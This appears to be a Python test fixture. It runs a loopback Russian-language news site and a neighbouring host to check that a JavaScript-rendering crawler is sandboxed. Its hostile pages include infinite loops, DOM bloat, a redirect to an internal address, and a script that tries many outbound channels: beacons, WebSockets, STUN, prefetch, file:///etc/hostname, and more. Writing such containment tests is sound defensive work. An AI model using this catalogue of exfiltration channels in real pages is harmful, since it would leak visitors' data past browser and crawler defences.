"""A site on loopback whose articles are written by a script, or whose scripts mean harm; each path is one page. `/feed` lists those wanted."""

from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from time import monotonic

from records.source import Source

TEXT = "Министры двух стран подписали в Душанбе соглашение о сотрудничестве в области энергетики. " * 5
SHELL = "<html><head><meta charset=utf-8><title>Подписано соглашение</title></head><body><nav>Главная Политика Экономика Общество Спорт Культура Наука Мир Видео Архив</nav><h1>Подписано соглашение</h1><div id=app></div>{}</body></html>"
WRITE = "const p=document.createElement('p');p.textContent={};document.getElementById('app').append(p);"
# What a script tries that may not reach `{other}`, a host beside the site: each is one way out.
WAYS_OUT = """
const out = '{other}';
fetch(out + '/fetch').catch(e => 0); fetch(out + '/post', {{method: 'POST', mode: 'no-cors', body: 'x'}}).catch(e => 0);
navigator.sendBeacon(out + '/beacon', 'x'); new Image().src = out + '/image';
try {{ new WebSocket(out.replace('http', 'ws') + '/socket') }} catch (e) {{}}
try {{ new EventSource(out + '/events') }} catch (e) {{}}
for (const [tag, at] of [['iframe', 'src'], ['script', 'src'], ['link', 'href'], ['object', 'data'], ['video', 'src']]) {{
  const e = document.createElement(tag); e[at] = out + '/' + tag; if (tag == 'link') e.rel = 'stylesheet'; document.body.append(e);
}}
for (const rel of ['prefetch', 'preconnect', 'prerender', 'modulepreload']) {{
  const e = document.createElement('link'); e.rel = rel; e.href = out + '/' + rel; document.head.append(e);
}}
fetch('/hop').catch(e => 0); fetch('file:///etc/hostname').catch(e => 0); window.open(out + '/window');
try {{ new RTCPeerConnection({{iceServers: [{{urls: 'stun:' + out.slice(7)}}]}}).createOffer() }} catch (e) {{}}
setTimeout(() => {{ location = out + '/location' }}, 300);
"""


@dataclass
class Seen:
    """What was asked: (path, user agent, when), of the site and of the host beside it."""

    site: list[tuple[str, str, float]] = field(default_factory=list)
    beside: list[str] = field(default_factory=list)


class _Answer(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    seen = Seen()
    links: tuple[str, ...] = ()
    other = ""

    def do_GET(self) -> None:
        self.seen.site.append((self.path, self.headers.get("User-Agent", ""), monotonic()))
        name = self.path.strip("/").partition("?")[0]
        body, kind, place = self._page(name)
        self.send_response(302 if place else 404 if body is None else 200)
        for header, value in (("Content-Type", kind), ("Content-Length", str(len((body or "").encode()))), ("ETag", '"1"'), ("Location", place)):
            if value:
                self.send_header(header, value)
        self.end_headers()
        self.wfile.write((body or "").encode())

    def _page(self, name: str) -> tuple[str | None, str, str]:
        """(body, kind, where it redirects to)"""
        if name == "feed":
            items = "".join(f"<item><link>{link}</link><title>{link}</title></item>" for link in self.links)
            return f"<rss version='2.0'><channel><title>t</title>{items}</channel></rss>", "application/rss+xml", ""
        if name == "app.js":
            return "fetch('/api').then(r => r.json()).then(found => {" + WRITE.format("found.text") + "})", "text/javascript", ""
        if name == "api":
            return f'{{"text": "{TEXT}"}}', "application/json", ""
        if name == "hop":
            return "", "text/html", "http://10.0.0.1/"
        scripts = {
            "article": "<script src=/app.js></script>", "second": "<script src=/app.js></script>", "denied": "<script src=/private/app.js></script>",
            "busy": "<script>setTimeout(() => { while (true) {} }, 200)</script>", "stuck": "<script>while (true) {}</script>",
            "grown": "<script>document.getElementById('app').textContent = 'a'.repeat(3e6)</script>",
            "out": f"<script>{WRITE.format(repr(TEXT))}{WAYS_OUT.format(other=self.other)}</script>",
            "wall": "<script>document.cookie='a=1';location.reload()</script>",
        }  # fmt: skip
        if name == "wall":
            return f"<html><body>{scripts[name]}</body></html>", "text/html", ""
        if name == "robots.txt":
            return "User-agent: *\nDisallow: /private/\n", "text/plain", ""
        return (SHELL.format(scripts[name]), "text/html; charset=utf-8", "") if name in scripts else (None, "text/html", "")

    def log_message(self, format: str, *args: object) -> None:
        pass


class _Beside(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        _Answer.seen.beside.append(self.path)
        self.send_error(404)

    do_POST = do_OPTIONS = do_HEAD = do_GET

    def log_message(self, format: str, *args: object) -> None:
        pass


@contextmanager
def scripted_site(*paths: str, delay_seconds: float = 0.0) -> Iterator[tuple[Source, Seen]]:
    """The site as a source whose feed lists these paths, and what is asked of it and of the host beside it."""
    site, beside = ThreadingHTTPServer(("127.0.0.78", 0), _Answer), ThreadingHTTPServer(("127.0.0.79", 0), _Beside)
    origin, _Answer.other = (f"http://{one.server_address[0]!s}:{one.server_address[1]}" for one in (site, beside))
    _Answer.links, _Answer.seen = tuple(f"{origin}/{path}" for path in paths), Seen()
    threads = [Thread(target=one.serve_forever, args=(0.05,), daemon=True) for one in (site, beside)]
    for server, thread in zip((site, beside), threads, strict=True):
        server.daemon_threads, server.block_on_close = True, False
        thread.start()
    content = {
        "id": "demo/scripted", "title": "Scripted", "home": origin + "/", "country": "INT", "languages": ["ru"], "publisher": "p",
        "feeds": [origin + "/feed"], "allow_loopback": True, "delay_seconds": delay_seconds, "javascript": True,
    }  # fmt: skip
    try:
        yield Source.model_validate(content), _Answer.seen
    finally:
        for server, thread in zip((site, beside), threads, strict=True):
            server.shutdown()
            server.server_close()
            thread.join()
